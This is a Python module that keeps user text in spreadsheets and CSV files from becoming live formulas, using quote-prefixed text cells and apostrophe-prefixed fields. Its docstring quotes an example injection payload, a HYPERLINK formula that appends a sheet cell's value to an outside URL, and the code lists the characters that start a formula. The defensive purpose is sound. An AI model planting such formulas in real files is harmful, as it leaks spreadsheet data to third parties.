"""User text written into spreadsheets and CSV files stays text (formula injection, CWE-1236).

A risk name or a cost description such as `=HYPERLINK("http://…/?p="&Summary!B2, "click")` must
never become a live formula in a report: text that starts with `=`, `+`, `-`, `@`, a tab or a
carriage return is written as a text cell with Excel's quote prefix (the text is kept exactly;
Excel shows it as typed and never evaluates it). CSV has no cell types, so there such text gets a
leading apostrophe, as OWASP recommends.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

#: how a spreadsheet program recognises a formula (or DDE) in typed or imported text
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def protect_worksheet(ws: Any) -> int:
    """Make every formula-like text cell of an openpyxl worksheet a quoted text cell; returns how
    many cells were changed. Use on sheets whose cells come from data (no intended formulas)."""
    changed = 0
    for row in ws.iter_rows():
        for cell in row:
            if looks_like_formula(cell.value) or cell.data_type == "f":
                text = str(cell.value)
                cell.value = text
                cell.data_type = "s"
                cell.quotePrefix = True
                changed += 1
    return changed


def protect_workbook(wb: Any) -> int:
    return sum(protect_worksheet(ws) for ws in wb.worksheets)


def csv_cell(value: Any) -> Any:
    """A CSV field that no spreadsheet will evaluate: formula-like text gets a leading `'`."""
    if looks_like_formula(value):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]
